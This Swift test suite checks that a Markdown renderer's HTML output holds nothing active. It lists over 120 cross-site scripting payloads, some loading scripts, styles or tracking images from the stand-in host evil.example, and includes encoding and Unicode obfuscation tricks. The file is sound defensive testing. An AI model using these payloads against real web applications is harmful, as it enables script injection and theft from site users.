import Source
import Testing

@testable import Syntax

/// Attempts to bring something active into the pack. All of them are our own or common knowledge.
@Suite("Safe HTML") struct InjectionTests {
  static let attempts: [String] = [
    // Elements that run something.
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt >alert(1)</sCrIpT >",
    "<script src=https://evil.example/x.js></script>",
    "<script\n>alert(1)</script\n>",
    "text <script>alert(1)</script> text",
    "<script>\nalert(1)\n\nalert(2)\n</script>",
    "<<script>alert(1);//<</script>",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script",
    "<script><!--alert(1)--></script>",
    "<!--><script>alert(1)</script>-->",
    "<!--->\n<script>alert(1)</script>\n-->",
    "<!-- --!><script>alert(1)</script> -->",
    "text <!-- x --!><script>alert(1)</script> -->",
    "<!-- <script>alert(1)</script>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=https://evil.example/>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x>",
    "<frameset onload=alert(1)><frame src=x></frameset>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<form><input type=image src=x onerror=alert(1)></form>",
    "<isindex action=javascript:alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><script>alert(1)</script>'></noscript>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<body onload=alert(1)>",
    "<html onmouseover=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<portal src=javascript:alert(1)>",
    "<slot name=x onslotchange=alert(1)>",
    // SVG and MathML.
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script xlink:href=data:,alert(1) /></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)/>#x'>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href=javascript:alert(1)>x</math>",
    // Attributes of elements that may pass.
    "<sub onclick=alert(1)>x</sub>",
    "<kbd style='background:url(javascript:alert(1))'>x</kbd>",
    "<details open ontoggle=alert(1)>x</details>",
    "<summary onclick=alert(1)>x</summary>",
    "<details>\n<summary onfocus=alert(1) tabindex=0>x</summary>\n</details>",
    "<abbr title='\"><script>alert(1)</script>'>x</abbr>",
    "<abbr title='&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;'>x</abbr>",
    "<abbr title=\"\u{0301}\" onmouseover=alert(1)>x</abbr>",
    "<abbr title='\"\u{0301} onmouseover=alert(1) x=\"\u{0308}'>x</abbr>",
    "<a id='x\" onclick=\"alert(1)'>x</a>",
    "<a name='\"><img src=x onerror=alert(1)>'></a>",
    "<a id=x href=javascript:alert(1)>x</a>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a id=x ping=https://evil.example target=_blank>x</a>",
    "<img src=x onerror=alert(1)>",
    "<img src=javascript:alert(1)>",
    "<img src=x:x onerror=alert(1)>",
    "<img src='x' alt='\" onerror=\"alert(1)'>",
    "<img src=\"x\"onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img srcset='https://evil.example/x.png 1x' src=a.png>",
    "<img src=https://evil.example/x.png>",
    "<img src=//evil.example/x.png>",
    "<img src='\\\\evil.example\\x.png'>",
    "<img src='/\\evil.example/x.png'>",
    "<img src=a.png width='1\" onload=\"alert(1)'>",
    "<img src=a.png style=x:expression(alert(1))>",
    "<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1) src=a.png>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<td background=javascript:alert(1)>x</td>",
    "<table background=javascript:alert(1)><tr><td>x</table>",
    "<table><tr><td colspan='1\" onclick=\"alert(1)'>x</table>",
    "<table><td align='\"><script>alert(1)</script>'>x",
    "<br onmouseover=alert(1)>",
    "<br/onclick=alert(1)/>",
    "<ins cite=javascript:alert(1)>x</ins>",
    "<mark contenteditable onbeforeinput=alert(1)>x</mark>",
    "<sup is=evil-element>x</sup>",
    "<kbd accesskey=x onclick=alert(1)>x</kbd>",
    "<del\u{0}onclick=alert(1)>x</del>",
    "<sub\u{0C}onclick=alert(1)>x</sub>",
    "<sub x='>' onclick=alert(1)>x</sub>",
    "<sub x=a'b onclick=alert(1)>x</sub>",
    // Schemes in links.
    "[x](javascript:alert(1))",
    "[x](JavaScript:alert(1))",
    "[x](jAvAsCrIpT&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&#x3a;alert(1))",
    "[x](javascript&#0000058;alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](&#x20;javascript:alert(1))",
    "[x](\u{01}javascript:alert(1))",
    "[x](<\u{7F}javascript:alert(1)>)",
    "[x](< javascript:alert(1)>)",
    "[x](<java\u{0}script:alert(1)>)",
    "[x](java\\script:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](view-source:https://evil.example)",
    "[x](ms-settings:privacy)",
    "[x](intent://x#Intent;scheme=http;end)",
    "[x](feed:javascript:alert(1))",
    "[x](jar:https://evil.example!/x)",
    "[x](javascript://%0aalert(1))",
    "[x](javascript:alert(1) \"title\")",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x]\n\n[x]: <java&#x73;cript:alert(1)> 'title'",
    "[y]: javascript:alert(1) \"\\\"><script>alert(1)</script>\"\n\n![x][y]",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,x>",
    "<vbscript:x>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![x](https://evil.example/track.png)",
    "![x](//evil.example/track.png)",
    "![x](http&colon;//evil.example/track.png)",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "[a [b](javascript:alert(1)) c](javascript:alert(2))",
    "javascript:alert(1)",
    "www.evil.example\"onmouseover=alert(1)",
    "https://evil.example/\"onmouseover=\"alert(1)",
    "https://evil.example/'onmouseover='alert(1)",
    "http://evil.example/<script>alert(1)</script>",
    "x@evil.example\"onclick=alert(1)",
    // Breaking out of attributes we write ourselves.
    "[x](/u \"\\\" onclick=\\\"alert(1)\")",
    "[x](/u '&quot; onclick=&quot;alert(1)')",
    "[x](/u (\" onclick=\"alert\\(1\\)))",
    "[x](/u\"onclick=alert(1))",
    "[x](</u\" onclick=\"alert(1)>)",
    "[x](/u \"\u{22}\u{0301} onclick=alert(1) y=\u{22}\u{0301}\")",
    "![\" onerror=\"alert(1)](a.png)",
    "![\"\u{0301} onerror=alert(1) \"\u{0301}](a.png)",
    "![x](a.png \"\\\" onerror=\\\"alert(1)\")",
    "![x](a.png\"onerror=\"alert(1))",
    "![<script>alert(1)</script>](a.png)",
    "```\"onclick=alert(1)\nx\n```",
    "```x\"><script>alert(1)</script>\nx\n```",
    "``` js\u{0301}\"onclick=alert(1)\nx\n```",
    "# x\" onclick=\"alert(1)",
    "# <img src=x onerror=alert(1)>",
    "x[^\"onclick=alert(1)]\n\n[^\"onclick=alert(1)]: y",
    "x[^<script>]\n\n[^<script>]: <script>alert(1)</script>",
    "> [!NOTE]<script>alert(1)</script>\n> x",
    "> [!\"onclick=alert(1)]\n> x",
    "- [<script>] x",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "| <img src=x onerror=alert(1)> |\n|---|\n| `<script>` |",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    // Nesting and balance.
    "</p></div></body></html><script>alert(1)</script>",
    "</details></section></main><script>alert(1)</script>",
    "<details><summary><details><summary></summary>",
    "*<sub>a*</sub><sup>",
    "[<sub>a](/u)</sub>",
    "<table><tr><td><table><tr><td></table><script>alert(1)</script>",
    "<td><tr></table><summary>",
    "- <details>\n\n</details>",
    "> <table><tr><td>\n\n</td></tr></table>",
    "<kbd><kbd><kbd><kbd>",
    "<a id=x><a id=y></a></a></a>",
    "<br></br>",
    // Declarations, instructions, sections.
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<?php echo 1 ?>",
    "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "text <![CDATA[<script>alert(1)</script>]]>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![if true]><script>alert(1)</script>",
    // Bytes that are not what they seem.
    "<script\u{2028}>alert(1)</script>",
    "\u{FF1C}script\u{FF1E}alert(1)\u{FF1C}/script\u{FF1E}",
    "[x](javascript\u{FF1A}alert(1))",
    "[x](\u{00A0}javascript:alert(1))",
    "[x](\u{200B}javascript:alert(1))",
    "[x](\u{FEFF}javascript:alert(1))",
    "\u{202E}tpircs<\u{202C}script>alert(1)</script>",
    "[moc.elpmaxe\u{202E}](https://evil.example)",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)} #{alert(1)} <%= alert(1) %> {% raw %}",
    "{{{x}}} {{>partial}} {{#x}}{{/x}}",
    "\u{0}<script>alert(1)</script>",
    "\u{1B}]8;;javascript:alert(1)\u{07}x\u{1B}]8;;\u{07}",
  ]

  @Test("there are at least 120 attempts")
  func count() { #expect(Set(Self.attempts).count >= 120) }

  /// The attempt alone, in the containers that a document has, and with other line ends.
  static func wrapped(_ text: String) -> [String] {
    [
      text, "x " + text, text + " x", "# " + text, "- " + text, "> " + text, "| a |\n|---|\n| " + text + " |",
      "*" + text + "*", "[" + text + "](/u)", "![" + text + "](a.png)", "x[^1]\n\n[^1]: " + text,
      "<details>\n\n" + text, text.replacing("\n", with: "\r\n"),
    ]
  }

  @Test("nothing active comes out", arguments: attempts)
  func attempt(_ text: String) {
    for wrapped in Self.wrapped(text) {
      for options in [MarkdownDocument.HTMLOptions(), Self.otherOptions(for: wrapped)] {
        let document = MarkdownDocument.parse(SourceText(path: "a.md", text: wrapped))
        let html = document.html(options)
        for problem in SafetyCheck.problems(in: html) {
          Issue.record("\(problem) in \(html.debugDescription) from \(wrapped.debugDescription)")
        }
      }
    }
  }

  /// Options that bring text of the attempt into attributes.
  static func otherOptions(for text: String) -> MarkdownDocument.HTMLOptions {
    let document = MarkdownDocument.parse(SourceText(path: "a.md", text: text))
    let decorations = document.textRuns.map {
      MarkdownDocument.Decoration(range: $0.range, destination: text, title: text)
    }
    return MarkdownDocument.HTMLOptions(
      resolve: { $0.destination + "\"'><script>" }, decorations: decorations.sorted { $0.range < $1.range },
      headingLevelOffset: 2, anchorPrefix: "p\"x<")
  }

  @Test("bytes that are not UTF-8 cannot hide a quote", arguments: [0x80, 0xC0, 0xC2, 0xE2, 0xF0, 0xFF] as [UInt8])
  func invalidBytes(_ byte: UInt8) {
    for template in [
      "<abbr title='~\" onclick=alert(1) x=~\"'>x</abbr>", "[x](/u '~\" onclick=alert\\(1\\)')",
      "![~\" onerror=alert(1)](a.png~\")", "~<script~>alert(1)</script~>", "<a id='~\">'></a>",
      "[x](java~script:alert(1))", "[x](~javascript:alert(1))",
    ] {
      let bytes = Array(template.utf8).map { $0 == 0x7E ? byte : $0 }
      let html = MarkdownDocument.parse(SourceText(path: "a.md", bytes: bytes)).html()
      #expect(SafetyCheck.problems(in: html) == [], "\(html)")
    }
  }

  @Test(
    "the check itself finds what it should",
    arguments: [
      "<script>", "<p onclick=\"x\">x</p>", "<a href=\"javascript:x\">x</a>", "<img src=\"https://x/y\" alt=\"\">",
      "<p>",
      "</p>", "<p title='x'></p>", "<a href=\"data:x\"></a>", "a < b", "<p><em></p></em>", "<!-- x -->", "<p x></p>",
    ])
  func checkWorks(_ html: String) {
    #expect(!SafetyCheck.problems(in: html).isEmpty)
  }

  @Test(
    "what is refused is reported",
    arguments: [
      ("<script>alert(1)</script>", "MD-02"), ("a <b>c</b>", "MD-02"), ("<sub onclick=x>x</sub>", "MD-03"),
      ("[x](javascript:alert(1))", "MD-04"), ("<vbscript:x>", "MD-04"), ("![x](https://a.b/c.png)", "MD-05"),
      ("<img src=https://a.b/c.png>", "MD-05"), ("<img src=data:x>", "MD-04"), ("<!-- x", "MD-06"),
      ("a\u{202E}b", "MD-07"), ("<?php ?>", "MD-02"), ("</details>", "MD-02"), ("[x]\n\n[x]: data:x", "MD-04"),
    ])
  func reported(text: String, code: String) {
    let document = MarkdownDocument.parse(SourceText(path: "a.md", text: text))
    #expect(document.diagnostics.map(\.rule.code).contains(code))
    for diagnostic in document.diagnostics {
      let range = diagnostic.location.range
      #expect(range != nil && (range?.upperBound ?? 0) <= text.utf8.count)
    }
  }

  @Test(
    "what is allowed passes without a finding",
    arguments: [
      ("H<sub>2</sub>O and x<sup>2</sup>", "<p>H<sub>2</sub>O and x<sup>2</sup></p>\n"),
      ("a<br>b<br/>c<BR />d", "<p>a<br>b<br>c<br>d</p>\n"),
      (
        "<kbd>x</kbd> <ins>a</ins> <del>b</del> <mark>c</mark>",
        "<p><kbd>x</kbd> <ins>a</ins> <del>b</del> <mark>c</mark></p>\n"
      ),
      ("<abbr title=\"Information security\">IS</abbr>", "<p><abbr title=\"Information security\">IS</abbr></p>\n"),
      ("<a id=\"here\"></a>Text", "<p><a id=\"here\"></a>Text</p>\n"),
      (
        "<details open>\n<summary>More</summary>\n\nText\n\n</details>",
        "<details open>\n<summary>More</summary>\n<p>Text</p>\n</details>\n"
      ),
      (
        "<table><tr><td colspan=2 align=center>a</td></tr></table>",
        "<table><tr><td colspan=\"2\" align=\"center\">a</td></tr></table>\n"
      ),
      ("<img src=\"plan.png\" alt=\"Plan\" width=\"40\">", "<p><img src=\"plan.png\" alt=\"Plan\" width=\"40\"></p>\n"),
      ("a <!-- note --> b", "<p>a  b</p>\n"),
      ("<!-- note -->\n\nb", "<p>b</p>\n"),
      (
        "[a](b.md) [c](https://d.example) [e](mailto:f@g.example) [h](tel:+491) [i](#j)",
        "<p><a href=\"b.md\">a</a> <a href=\"https://d.example\" rel=\"noopener noreferrer external\">c</a> "
          + "<a href=\"mailto:f@g.example\">e</a> <a href=\"tel:+491\">h</a> <a href=\"#j\">i</a></p>\n"
      ),
    ])
  func allowed(text: String, html: String) {
    let document = MarkdownDocument.parse(SourceText(path: "a.md", text: text))
    #expect(document.html() == html)
    #expect(document.diagnostics.isEmpty)
  }
}
